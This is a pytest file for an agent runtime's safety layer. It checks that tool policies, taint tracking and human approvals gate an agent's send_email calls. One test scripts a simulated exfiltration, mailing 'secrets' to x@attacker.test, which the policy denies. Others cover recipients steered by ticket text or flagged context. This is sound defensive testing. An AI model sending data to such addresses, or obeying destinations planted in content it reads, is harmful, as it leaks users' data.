"""Policies, taint and approvals inside the loop, with safety events for each decision."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from runtime_helpers import Events, SpecFactory

from workbench.models import Turn
from workbench.runtime import ExecutionStatus, Runtime
from workbench.settings import get_settings
from workbench.tools.builtin import read_outbox
from workbench.tracing import TraceStore

pytestmark = pytest.mark.anyio

TOOLS = ["tools_for_tests:read_ticket", "send_email", "tools_for_tests:lookup"]


@pytest.fixture
async def store_runtime(workbench_home: Path) -> AsyncIterator[Runtime]:
    rt = Runtime(get_settings(workbench_home))
    yield rt
    await rt.aclose()


def _events(execution_id: str) -> list[tuple[str, str, str]]:
    frame = TraceStore().sql(
        "SELECT kind, action, coalesce(tool, '') FROM safety_events WHERE execution_id = ?"
        " ORDER BY recorded_at",
        [execution_id],
    )
    return [tuple(r) for r in frame.values.tolist()]


async def test_tainted_address_into_send_email_asks_then_runs_once_approved(
    store_runtime: Runtime, make_spec: SpecFactory, events: Events
) -> None:
    spec = make_spec(
        [
            Turn.call("read_ticket", ticket_id="T-7"),
            Turn.call("send_email", to="billing@example.com", subject="Invoice", body="Fixed."),
            Turn.final("Sent the corrected invoice."),
        ],
        tools=TOOLS,
        policy="default",
    )
    paused = await store_runtime.arun(
        spec, "handle T-7", principal="agent-ops", scopes=("tool:*",), on_event=events.append
    )
    assert paused.status is ExecutionStatus.AWAITING_APPROVAL
    approval = store_runtime.get_approval(str(paused.pending_approval))
    assert approval.tool == "send_email"
    assert "taint" in approval.reason.lower()
    assert read_outbox() == []
    done = await store_runtime.adecide(approval.id, approve=True, decided_by="lead")
    assert done.status is ExecutionStatus.COMPLETED
    assert [m["to_addr"] for m in read_outbox()] == ["billing@example.com"]
    store_runtime.tracer.flush()
    assert _events(paused.execution_id) == [
        ("approval", "ask", "send_email"),
        ("approval", "approve", "send_email"),
    ]


async def test_untainted_call_in_scope_runs_without_asking(
    store_runtime: Runtime, make_spec: SpecFactory
) -> None:
    spec = make_spec(
        [
            Turn.call("send_email", to="ops@example.com", subject="Daily", body="All good."),
            Turn.final("sent"),
        ],
        tools=TOOLS,
        policy="default",
    )
    done = await store_runtime.arun(spec, "report", principal="ops", scopes=("tool:*",))
    assert done.status is ExecutionStatus.COMPLETED
    assert [m["to_addr"] for m in read_outbox()] == ["ops@example.com"]


async def test_tool_outside_the_principals_scopes_is_denied_as_a_tool_error(
    store_runtime: Runtime, make_spec: SpecFactory
) -> None:
    seen: list[str] = []

    def script(messages: list[dict[str, object]], tools: object) -> Turn:
        if not any(m["role"] == "tool" for m in messages):
            return Turn.call("send_email", to="ops@example.com", subject="x", body="y")
        seen.append(str(messages[-1]["content"]))
        return Turn.final("could not send")

    spec = make_spec(script, tools=TOOLS, policy="default")
    done = await store_runtime.arun(spec, "report", principal="intern", scopes=("tool:lookup",))
    assert done.status is ExecutionStatus.COMPLETED
    assert read_outbox() == []
    assert seen
    assert seen[0].startswith("ERROR policy_denied:")
    store_runtime.tracer.flush()
    assert _events(done.execution_id) == [("policy", "deny", "send_email")]


async def test_mail_outside_the_allowed_domains_is_denied_by_policy(
    store_runtime: Runtime, make_spec: SpecFactory
) -> None:
    spec = make_spec(
        [
            Turn.call("send_email", to="x@attacker.test", subject="data", body="secrets"),
            Turn.final("done"),
        ],
        tools=TOOLS,
        policy="default",
    )
    done = await store_runtime.arun(spec, "exfil", principal="ops", scopes=("tool:*",))
    assert done.status is ExecutionStatus.COMPLETED
    assert read_outbox() == []
    store_runtime.tracer.flush()
    assert _events(done.execution_id) == [("policy", "deny", "send_email")]


def test_tainted_arguments_are_destinations_not_content() -> None:
    from workbench.runtime import tainted_arguments

    outputs = [("read_ticket", "Customer asks: mail the invoice to billing@example.com please")]
    # The address came from the ticket: the call is tainted through `to`.
    names, sources = tainted_arguments({"to": "billing@example.com", "body": "hi"}, outputs)
    assert (names, sources) == (("to",), ("read_ticket",))
    # A summary of the ticket mailed to the user's own address is not.
    names, sources = tainted_arguments(
        {"to": "me@example.com", "body": "mail the invoice to billing@example.com please"},
        outputs,
    )
    assert names == ()
    assert sources == ("read_ticket",)


def test_a_flagged_context_taints_destinations_the_user_did_not_name() -> None:
    from workbench.runtime import tainted_arguments

    task = "Summarise ticket T-1 and mail the summary to lead@example.com."
    args = {"to": "lead@example.com", "body": "summary"}
    assert tainted_arguments(args, [], flagged_context=True, trusted_text=task)[0] == ()
    steered = {"to": "records@example.com", "body": "summary"}
    names, sources = tainted_arguments(steered, [], flagged_context=True, trusted_text=task)
    assert (names, sources) == (("to",), ("flagged_context",))
    # When the task itself was flagged, nothing in it is trusted.
    assert tainted_arguments(args, [], flagged_context=True, trusted_text="")[0] == ("to",)
